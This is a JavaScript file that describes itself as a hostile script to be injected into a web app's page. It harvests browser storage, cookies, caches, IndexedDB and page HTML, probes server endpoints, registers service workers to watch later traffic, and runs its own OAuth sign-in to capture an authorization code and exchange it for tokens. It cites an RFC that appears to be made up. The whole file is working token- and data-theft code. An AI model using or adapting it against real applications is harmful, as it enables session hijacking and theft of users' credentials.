// A hostile script: runs in the page of an app and gathers, as text, everything that a script there can get its hands on.

/** Runs in the page, so it can use nothing from outside itself. `provider` is its discovery document, `own` a sign-in that the script begins by itself. */
export async function gather({ paths, workers, provider, own }) {
  const found = [], keep = (where, what) => found.push(`${where}: ${typeof what === 'string' ? what : JSON.stringify(what)}`);
  const soon = (promise, wait = 5000) => Promise.race([promise, new Promise(done => setTimeout(done, wait))]);

  for (const name of ['localStorage', 'sessionStorage']) keep(name, { ...globalThis[name] });
  keep('cookie', document.cookie);
  if (globalThis.cookieStore) keep('cookieStore', await cookieStore.getAll());
  for (const name of await caches.keys()) {
    const cache = await caches.open(name);
    for (const request of await cache.keys()) keep(`cache ${name} ${request.url}`, await (await cache.match(request)).text());
  }
  for (const { name } of await indexedDB.databases()) {
    const base = await new Promise(done => { indexedDB.open(name).onsuccess = event => done(event.target.result); });
    for (const store of base.objectStoreNames) keep(`${name}.${store}`, await new Promise(done => { base.transaction(store).objectStore(store).getAll().onsuccess = event => done(event.target.result); }));
  }
  keep('window', [name, document.referrer, location.href, history.state, document.documentElement.outerHTML]);

  // What the server answers to this origin, as fetch and as XMLHttpRequest show it.
  const ask = async (method, path, headers) => {
    const reply = await fetch(path, { method, headers, redirect: 'manual' }).catch(() => undefined);
    if (reply) keep(`${method} ${path} ${reply.status} ${reply.url}`, [[...reply.headers], await reply.text()]);
    const xhr = new XMLHttpRequest();
    xhr.open(method, path);
    for (const [name, value] of Object.entries(headers)) xhr.setRequestHeader(name, value);
    await soon(new Promise(done => { xhr.onloadend = done; xhr.send(); }));
    keep(`XHR ${method} ${path} ${xhr.status} ${xhr.responseURL}`, xhr.getAllResponseHeaders() + xhr.responseText);
  };
  for (const path of paths) for (const method of ['GET', 'POST', 'OPTIONS']) for (const headers of [{}, { 'X-Bff': '1' }]) await ask(method, path, headers);

  // A frame and a window of the same origin: where they pass by, and what they show.
  const look = async (what, target, until, patience) => {
    const seen = new Set();
    for (const end = Date.now() + patience; Date.now() < end; await new Promise(done => setTimeout(done, 5))) {
      try { seen.add(target.location.href); seen.add(target.name); seen.add(target.document.documentElement.outerHTML); } catch { /* at another origin just now */ }
      if ([...seen].some(until)) break;
    }
    keep(what, [...seen]);
    return [...seen];
  };
  for (const path of paths) {
    const frame = document.body.appendChild(Object.assign(document.createElement('iframe'), { src: path }));
    await soon(new Promise(done => { frame.onload = done; }));
    try { keep(`frame ${path}`, [frame.contentWindow.location.href, frame.contentDocument.documentElement.outerHTML]); } catch { keep(`frame ${path}`, 'of another origin'); }
    frame.remove();
  }

  // A service worker would see every later request of the app.
  for (const url of workers) keep(`worker ${url}`, await soon(navigator.serviceWorker.register(url, { scope: '/' }).then(() => 'registered', error => `refused: ${error.message}`)));
  keep('workers', (await navigator.serviceWorker.getRegistrations()).map(one => one.scope));

  // A sign-in of the script's own: the provider still knows the person and asks nothing (RFC 10017, "Acquisition and Extraction of New Tokens").
  const bytes = crypto.getRandomValues(new Uint8Array(32)), url64 = data => btoa(String.fromCharCode(...new Uint8Array(data))).replace(/\+/g, '-').replace(/\//g, '_').replace(/=/g, '');
  const verifier = url64(bytes), challenge = url64(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(verifier)));
  for (const type of ['code', 'token', 'id_token']) {
    const query = new URLSearchParams({ response_type: type, client_id: own.clientId, redirect_uri: own.redirectUri, scope: 'openid', state: 'mine', nonce: 'mine', code_challenge: challenge, code_challenge_method: 'S256' });
    const popup = window.open(`${provider.authorization_endpoint}?${query}`);
    const seen = await look(`own sign-in ${type}`, popup, text => /[?&#](code|error|access_token|id_token)=/.test(text), type === 'code' ? 10_000 : 2000);
    popup.close();
    const code = seen.map(text => /[?&]code=([^&#"]+)/.exec(text)?.[1]).find(Boolean);
    if (type !== 'code' || !code) continue;
    own.loot = { code, verifier };
    const body = new URLSearchParams({ grant_type: 'authorization_code', client_id: own.clientId, redirect_uri: own.redirectUri, code, code_verifier: verifier });
    keep('own code', await fetch(provider.token_endpoint, { method: 'POST', body }).then(async reply => `${reply.status} ${await reply.text()}`, error => `refused: ${error.message}`));
  }
  keep('performance', performance.getEntries().map(one => one.toJSON()));
  return { text: found.join('\n'), ...own.loot };
}
